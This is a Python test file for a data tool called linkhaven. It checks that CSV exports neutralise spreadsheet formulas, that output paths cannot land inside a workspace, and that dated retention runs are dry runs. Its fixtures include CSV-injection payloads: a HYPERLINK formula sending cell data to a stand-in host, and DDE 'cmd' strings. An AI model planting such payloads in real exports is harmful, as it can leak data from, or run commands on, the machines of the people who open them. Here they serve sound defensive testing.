"""What linkhaven writes where people open it: CSV exports, `--out` paths, and retention's dry run."""

from __future__ import annotations

import csv
import stat
from pathlib import Path
from typing import Any

import pyarrow as pa
import pytest
from hypothesis import given
from hypothesis import strategies as st

from linkhaven.csvsafe import FORMULA_STARTS, neutralise
from linkhaven.publish import publish_panel, reaudit
from tests.conftest import SPEC, Env
from tests.test_intake import onsis_row, open_gates, write_csv
from tests.test_publish_tables import small_spec

FORMULAS = {
    "LEGAL_FIRST_NAME": '=HYPERLINK("http://example.invalid/?x="&A1,"open")',
    "LEGAL_LAST_NAME": "+1+cmd|' /C calc'!A0",
    "POSTAL_CODE": "@SUM(1+1)*cmd|' /C calc'!A0",
    "SCHOOL_NUMBER": "-2+3",
    "DATE_OF_BIRTH": "\t=1+2",  # also malformed: the row is quarantined
}
# A carriage return cannot reach an export: it ends a physical record at intake (tests/test_intake_records.py);
# csvsafe's rule for a cell starting with one is checked by test_property_no_neutralised_text_starts_a_formula.


# -- CSV exports ------------------------------------------------------------------------------
def test_quarantine_export_neutralises_formulas_and_is_private(env: Env, tmp_path: Path) -> None:
    open_gates(env)
    file = write_csv(tmp_path / "onsis.csv", [onsis_row(1), onsis_row(2, **FORMULAS)])
    assert env.as_user("steward", "intake", "--source", "onsis", str(file)).code == 0
    out = tmp_path / "export" / "q.csv"
    result = env.as_user("steward", "quarantine", "export", "--delivery", "D0001", "--out", str(out))
    assert result.code == 0, result.err
    assert stat.S_IMODE(out.stat().st_mode) == 0o600  # personal information: the steward's eyes only
    with out.open(encoding="utf-8", newline="") as handle:
        (row,) = list(csv.DictReader(handle))
    found = {v for v in row.values() if v}
    assert not any(v.startswith(FORMULA_STARTS) for v in found)
    for value in FORMULAS.values():
        assert "'" + value in found, value  # shown as the text it was, one quote in front
    again = env.as_user("steward", "quarantine", "export", "--delivery", "D0001", "--out", str(out))
    assert again.code == 1 and "already exists" in again.err


def test_published_tables_neutralise_codes_that_look_like_formulas(tmp_path: Path) -> None:
    spec = small_spec()
    assert spec.indicators is not None
    indicators = spec.indicators.model_copy(
        update={
            "breakdowns": {"gender": spec.indicators.breakdowns["gender"]},
            "measures": tuple(m.model_copy(update={"breakdowns": None}) for m in spec.indicators.measures
                              if m.id == "students"),
        }
    )  # fmt: skip
    n = 300
    panel = pa.table(
        {
            "person_id": list(range(n)),
            "school_year": ["2022-23"] * n,
            "care_status": ["not_involved"] * (n - 40) + ["in_care"] * 40,
            "gender": ["F", "M", "=2+5"] * (n // 3),  # a code no list holds, as a generalised release may bring
        }
    )
    folder = tmp_path / "pub"
    publish_panel(panel, spec.model_copy(update={"indicators": indicators}), folder)
    with (folder / "tables" / "students-by-gender.csv").open(encoding="utf-8", newline="") as handle:
        lines = list(csv.DictReader(handle))
    assert "'=2+5" in {line["gender"] for line in lines}
    assert not any(v.startswith(FORMULA_STARTS) for line in lines for v in line.values())
    assert reaudit(folder).passed  # the cell keys, which start with a column name, are read back as written


def test_neutralise_leaves_keys_numbers_and_plain_text_alone() -> None:
    assert neutralise("=1+2") == "'=1+2" and neutralise("-") == "'-" and neutralise("@x") == "'@x"
    assert neutralise("board=B1|care_status=all") == "board=B1|care_status=all"  # a cell key starts with a name
    assert neutralise(-5) == -5 and neutralise(None) == ""  # numbers are not formulas; None is an empty cell


@given(st.text())
def test_property_no_neutralised_text_starts_a_formula(text: str) -> None:
    safe = neutralise(text)
    assert isinstance(safe, str) and not safe.startswith(FORMULA_STARTS)
    assert safe in (text, "'" + text)


# -- --out: never inside a workspace, never over a file without --force ------------------------
OUT_COMMANDS = {
    ("notice", "render"): ("admin", ["notice", "render", "--spec", str(SPEC)]),
    ("quarantine", "export"): ("steward", ["quarantine", "export", "--delivery", "D0001"]),
    ("release", "read"): ("analyst", ["release", "read", "REL0001"]),
    ("oversight", "pack"): ("privacy_officer", ["oversight", "pack"]),
    ("synth",): ("admin", ["synth", "--scale", "0.001"]),
}


def _commands_with_out() -> set[tuple[str, ...]]:
    import typer.main

    from linkhaven.cli import app

    found: set[tuple[str, ...]] = set()

    def walk(command: Any, path: tuple[str, ...]) -> None:
        if any("--out" in getattr(p, "opts", []) for p in command.params):
            found.add(path)
        for name, sub in getattr(command, "commands", {}).items():
            walk(sub, (*path, name))

    walk(typer.main.get_command(app), ())
    return found


def test_every_out_option_is_covered_here() -> None:
    assert _commands_with_out() == set(OUT_COMMANDS)


@pytest.mark.parametrize("command", sorted(OUT_COMMANDS))
@pytest.mark.parametrize("where", ["spec.yaml", "zones/new", "."])
def test_no_out_writes_inside_a_workspace(env: Env, command: tuple[str, ...], where: str) -> None:
    user, args = OUT_COMMANDS[command]
    spec_before = (env.workspace / "spec.yaml").read_bytes()
    target = env.workspace / where
    result = env.as_user(user, *args, "--out", str(target))
    assert result.code == 1, (command, result.out)
    assert "inside the workspace" in result.err and "outside any workspace" in result.err
    assert (env.workspace / "spec.yaml").read_bytes() == spec_before
    if "--force" in _help(env, command):  # and --force does not change that
        assert env.as_user(user, *args, "--out", str(target), "--force").code == 1
    assert (env.workspace / "spec.yaml").read_bytes() == spec_before


def _help(env: Env, command: tuple[str, ...]) -> str:
    return env.cli("admin", *command, "--help").out


def test_notice_render_never_replaces_a_file_without_force(env: Env, tmp_path: Path) -> None:
    out = tmp_path / "notice.md"
    out.write_text("an earlier notice\n", encoding="utf-8")
    refused = env.cli("admin", "notice", "render", "--spec", str(SPEC), "--out", str(out))
    assert refused.code == 1 and "already exists" in refused.err and "--force" in refused.err
    assert out.read_text(encoding="utf-8") == "an earlier notice\n"
    forced = env.cli("admin", "notice", "render", "--spec", str(SPEC), "--out", str(out), "--force")
    assert forced.code == 0 and out.read_text(encoding="utf-8").startswith("#")
    # A link that leads into a workspace is judged by where it leads.
    link = tmp_path / "innocent.md"
    link.symlink_to(env.workspace / "spec.yaml")
    spec_before = (env.workspace / "spec.yaml").read_bytes()
    linked = env.cli("admin", "notice", "render", "--spec", str(SPEC), "--out", str(link), "--force")
    assert linked.code == 1 and "inside the workspace" in linked.err
    assert (env.workspace / "spec.yaml").read_bytes() == spec_before


def test_another_workspace_is_a_workspace_too(env: Env, tmp_path: Path) -> None:
    other = tmp_path / "other-ws"
    assert env.cli("admin", "init", str(other), "--spec", str(SPEC), "--keys", str(tmp_path / "k2")).code == 0
    result = env.as_user("steward", "quarantine", "export", "--delivery", "D0001", "--out", str(other / "q.csv"))
    assert result.code == 1 and f"inside the workspace {other.resolve()}" in result.err
    assert not (other / "q.csv").exists()


def test_folder_outputs_need_force_to_write_into_a_non_empty_folder(env: Env, tmp_path: Path) -> None:
    folder = tmp_path / "extracts"
    folder.mkdir()
    (folder / "onsis.csv").write_text("kept\n", encoding="utf-8")
    refused = env.cli("admin", "synth", "--scale", "7", "--out", str(folder))
    assert refused.code == 1 and "not empty" in refused.err
    assert (folder / "onsis.csv").read_text(encoding="utf-8") == "kept\n"
    forced = env.cli("admin", "synth", "--scale", "7", "--out", str(folder), "--force")
    assert forced.code == 2 and "Scale" in forced.err  # past the --out check, stopped by the scale
    pack = env.as_user("privacy_officer", "oversight", "pack", "--out", str(folder))
    assert pack.code == 1 and "not empty" in pack.err


# -- retention: nothing destroyed before its real date ------------------------------------------
def test_retention_run_as_of_a_later_date_is_a_dry_run(env: Env, tmp_path: Path) -> None:
    open_gates(env)
    file = write_csv(tmp_path / "onsis.csv", [onsis_row(i) for i in range(3)])
    assert env.as_user("steward", "intake", "--source", "onsis", str(file)).code == 0
    keys_before = sorted(p.name for p in env.keys.iterdir())

    dry = env.as_user("admin", "retention", "run", "--as-of", "2099-01-01", "--json")
    assert dry.code == 0, dry.err
    report = dry.json()
    assert isinstance(report, dict) and report["dry_run"] is True and report["destroyed"] == []
    assert {(i["kind"], i["target"]) for i in report["would_destroy"]} == {("zone", "identity"), ("zone", "content")}
    text = env.as_user("admin", "retention", "run", "--as-of", "2099-01-01")
    assert text.code == 0 and "nothing was destroyed" in text.out and "Would destroy zone identity" in text.out

    # Nothing happened: keys, zones and the register are as they were, and today nothing is due.
    assert sorted(p.name for p in env.keys.iterdir()) == keys_before
    assert env.as_user("steward", "quarantine", "list").code == 0
    today = env.as_user("admin", "retention", "run", "--json")
    assert today.code == 0 and today.json() == []
    assert sorted(p.name for p in env.keys.iterdir()) == keys_before
    status = env.as_user("admin", "retention", "status", "--as-of", "2099-01-01", "--json").json()
    assert isinstance(status, list) and all(i["due"] for i in status)  # status --as-of still judges that date
    events = env.as_user("privacy_officer", "audit", "show", "--limit", "500", "--json").json()
    assert isinstance(events, list)
    assert not [e for e in events if e["action"] == "retention.destroy"]
    runs = [e["detail"] for e in events if e["action"] == "retention.run"]
    assert runs[0]["dry_run"] is True and runs[0]["destroyed"] == 0 and runs[0]["would_destroy"] == 2
    assert env.as_user("privacy_officer", "retention", "run", "--as-of", "2099-01-01").code == 3  # admin only
